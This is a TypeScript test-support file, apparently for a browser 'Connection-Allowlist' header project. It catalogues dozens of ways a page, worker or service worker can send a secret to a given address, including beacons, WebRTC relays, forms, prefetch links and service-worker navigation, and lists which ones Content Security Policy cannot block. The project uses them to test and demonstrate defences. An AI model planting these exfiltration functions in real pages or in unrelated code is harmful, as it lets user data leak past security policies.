/**
 * Ways in which a script could try to send something away. Each gets an address and a text, and tries its worst. The
 * tests run them against a listener, in every kind of page and worker; the page `/proof` runs them in front of its
 * readers. Each is a self-contained function without imports, because tests send its source to where it runs.
 */
export type Attempt = (address: string, secret?: string) => unknown;

/** Newer than TypeScript's library, and not in every browser. */
declare function fetchLater(address: string, init: RequestInit & { activateAfter: number }): unknown;

/** What a document can try without leaving. */
export const fromPages = {
  fetch: (address, secret = 'secret') => fetch(address, { method: 'POST', body: secret, mode: 'no-cors' }),
  'fetch that outlives the page': (address, secret = 'secret') =>
    fetch(address, { method: 'POST', body: secret, mode: 'no-cors', keepalive: true }),
  'fetch that waits until the page is gone': (address, secret = 'secret') =>
    fetchLater(address, { method: 'POST', body: secret, activateAfter: 0 }),
  XMLHttpRequest: (address, secret = 'secret') => {
    const request = new XMLHttpRequest();
    request.open('POST', address);
    request.send(secret);
  },
  beacon: (address, secret = 'secret') => navigator.sendBeacon(address, secret),
  WebSocket: (address) => new WebSocket(address.replace(/^http/, 'ws')),
  EventSource: (address) => new EventSource(address),
  WebTransport: (address) => new WebTransport(address.replace(/^http:/, 'https:')).ready,
  cache: async (address) => (await caches.open('leak')).add(new Request(address, { mode: 'no-cors' })),
  image: (address) => Object.assign(new Image(), { src: address }),
  'image in a style': (address) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`body { background-image: url("${address}") }`);
    document.adoptedStyleSheets.push(sheet);
  },
  'image in a drawing': (address) => {
    const drawing = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
    const image = document.createElementNS('http://www.w3.org/2000/svg', 'image');
    image.setAttribute('href', address);
    drawing.append(image);
    document.body.append(drawing);
  },
  font: (address) => new FontFace('leak', `url("${address}")`).load(),
  audio: (address) => Object.assign(new Audio(), { src: address, preload: 'auto' }).load(),
  'poster of a video': (address) =>
    document.body.append(Object.assign(document.createElement('video'), { poster: address })),
  stylesheet: (address) =>
    document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: address })),
  script: (address) => document.head.append(Object.assign(document.createElement('script'), { src: address })),
  'module import': (address) => import(/* @vite-ignore */ address),
  'audio worklet': (address) => new AudioContext().audioWorklet.addModule(address),
  prefetch: (address) =>
    document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: address })),
  preload: (address) =>
    document.head.append(Object.assign(document.createElement('link'), { rel: 'preload', as: 'fetch', href: address })),
  'module preload': (address) =>
    document.head.append(Object.assign(document.createElement('link'), { rel: 'modulepreload', href: address })),
  manifest: (address) =>
    document.head.append(Object.assign(document.createElement('link'), { rel: 'manifest', href: address })),
  icon: (address) =>
    document.head.append(Object.assign(document.createElement('link'), { rel: 'icon', href: address })),
  'looking a name up': (address) =>
    document.head.append(Object.assign(document.createElement('link'), { rel: 'dns-prefetch', href: address })),
  'connecting ahead': (address) =>
    document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect', href: address })),
  'speculation rules': (address) => {
    const rules = document.createElement('script');
    rules.type = 'speculationrules';
    rules.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [address] }] });
    document.head.append(rules);
  },
  frame: (address) => document.body.append(Object.assign(document.createElement('iframe'), { src: address })),
  'a frame’s own fetch': (address, secret = 'secret') => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    return frame.contentWindow?.fetch(address, { method: 'POST', body: secret, mode: 'no-cors' });
  },
  object: (address) => document.body.append(Object.assign(document.createElement('object'), { data: address })),
  embed: (address) => document.body.append(Object.assign(document.createElement('embed'), { src: address })),
  ping: (address) => {
    const link = Object.assign(document.createElement('a'), { href: '#', ping: address });
    document.body.append(link);
    link.click();
  },
  'form in a new window': (address) => {
    const form = Object.assign(document.createElement('form'), { action: address, method: 'post', target: '_blank' });
    document.body.append(form);
    form.submit();
  },
  'inline worker': (address, secret = 'secret') => {
    const code = `fetch(${JSON.stringify(address)}, { method: 'POST', body: ${JSON.stringify(secret)}, mode: 'no-cors' })`;
    return new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
  },
  worker: (address) => new Worker(address, { type: 'module' }),
  'shared worker': (address) => new SharedWorker(address),
  'service worker': (address) => navigator.serviceWorker.register(address),
  'WebRTC, to look for a path': async (address) => {
    const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:${new URL(address).host}` }] });
    connection.createDataChannel('leak');
    await connection.setLocalDescription(await connection.createOffer());
  },
  'WebRTC, through a relay': async (address, secret = 'secret') => {
    const urls = `turn:${new URL(address).host}?transport=tcp`;
    const connection = new RTCPeerConnection({
      iceServers: [{ urls, username: secret.slice(0, 500), credential: 'x' }],
    });
    connection.createDataChannel('leak');
    await connection.setLocalDescription(await connection.createOffer());
  },
  'WebRTC, straight to a peer': async (address) => {
    const { hostname, port } = new URL(address);
    const connection = new RTCPeerConnection();
    connection.createDataChannel('leak');
    await connection.setLocalDescription(await connection.createOffer());
    const sdp = (connection.localDescription?.sdp ?? '').replace('a=setup:actpass', 'a=setup:active');
    await connection.setRemoteDescription({ type: 'answer', sdp });
    await connection.addIceCandidate({
      candidate: `candidate:1 1 udp 2113937151 ${hostname} ${port} typ host`,
      sdpMid: '0',
      sdpMLineIndex: 0,
    });
  },
} satisfies Record<string, Attempt>;

/** What a document can try that navigates it, or a new window, elsewhere. */
export const byLeaving = {
  download: (address) => {
    const link = Object.assign(document.createElement('a'), { href: address, download: 'leak' });
    document.body.append(link);
    link.click();
  },
  navigation: (address) => void (location.href = address),
  'a new window': (address) => void window.open(address),
  'a page that refreshes itself': (address) =>
    document.head.append(
      Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: `0; url=${address}` }),
    ),
  form: (address) => {
    const form = Object.assign(document.createElement('form'), { action: address, method: 'post', target: '_self' });
    document.body.append(form);
    form.submit();
  },
  'a form’s fields in an address': (address, secret = 'secret') => {
    const form = Object.assign(document.createElement('form'), { action: address, method: 'get', target: '_self' });
    form.append(Object.assign(document.createElement('input'), { name: 'leak', value: secret }));
    document.body.append(form);
    form.submit();
  },
} satisfies Record<string, Attempt>;

/** What a worker can try. */
export const fromWorkers = {
  fetch: (address, secret = 'secret') => fetch(address, { method: 'POST', body: secret, mode: 'no-cors' }),
  XMLHttpRequest: (address, secret = 'secret') => {
    const request = new XMLHttpRequest();
    request.open('POST', address, false);
    request.send(secret);
  },
  WebSocket: (address) => new WebSocket(address.replace(/^http/, 'ws')),
  EventSource: (address) => new EventSource(address),
  WebTransport: (address) => new WebTransport(address.replace(/^http:/, 'https:')).ready,
  cache: async (address) => (await caches.open('leak')).add(new Request(address, { mode: 'no-cors' })),
  'module import': (address) => import(/* @vite-ignore */ address),
  font: (address) => new FontFace('leak', `url("${address}")`).load(),
  'inline worker': (address, secret = 'secret') => {
    const code = `fetch(${JSON.stringify(address)}, { method: 'POST', body: ${JSON.stringify(secret)}, mode: 'no-cors' })`;
    return new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
  },
  worker: (address) => new Worker(address, { type: 'module' }),
} satisfies Record<string, Attempt>;

/**
 * What a Content Security Policy cannot express, so that only `Connection-Allowlist` refuses it: what stays open in a
 * browser that ignores that header. A test confirms that exactly these are open there; the pages name them.
 */
export const beyondContentPolicy = {
  'open another address': ['navigation', 'a new window', 'a page that refreshes itself', 'download'],
  'use WebRTC': ['WebRTC, to look for a path', 'WebRTC, through a relay', 'WebRTC, straight to a peer'],
  'have a name looked up or a connection opened': ['looking a name up', 'connecting ahead'],
} as const satisfies Record<string, readonly (keyof typeof fromPages | keyof typeof byLeaving)[]>;

/** What no browser's policy refuses towards this site's own server: an address with a query gets there. */
export const openToOwnServer = ['download'] as const satisfies readonly (keyof typeof byLeaving)[];

/** As far as the ways below need it: TypeScript's library for pages has no service workers. */
interface ServiceWorkerScope {
  clients: {
    openWindow(address: string): unknown;
    matchAll(options: object): Promise<{ navigate(address: string): unknown }[]>;
  };
  importScripts(address: string): void;
  registration: ServiceWorkerRegistration & {
    backgroundFetch?: { fetch(id: string, address: string): unknown };
  };
}

/** What a service worker can try besides what every worker can. */
export const fromServiceWorkers = {
  // Only service workers have it.
  'script import': (address) => (self as unknown as ServiceWorkerScope).importScripts(address),
  // Only service workers have it.
  'window of its own': (address) => (self as unknown as ServiceWorkerScope).clients.openWindow(address),
  'page led elsewhere': async (address) => {
    // Only service workers have it.
    const pages = await (self as unknown as ServiceWorkerScope).clients.matchAll({ includeUncontrolled: true });
    await Promise.all(pages.map((page) => page.navigate(address)));
  },
  'fetch in the background': (address) =>
    // Only service workers have it.
    (self as unknown as ServiceWorkerScope).registration.backgroundFetch?.fetch('leak', address),
  'preload of a page': async (address) => {
    // Only service workers have it.
    const { navigationPreload } = (self as unknown as ServiceWorkerScope).registration;
    await navigationPreload.enable();
    await navigationPreload.setHeaderValue(encodeURIComponent(address));
  },
} satisfies Record<string, Attempt>;
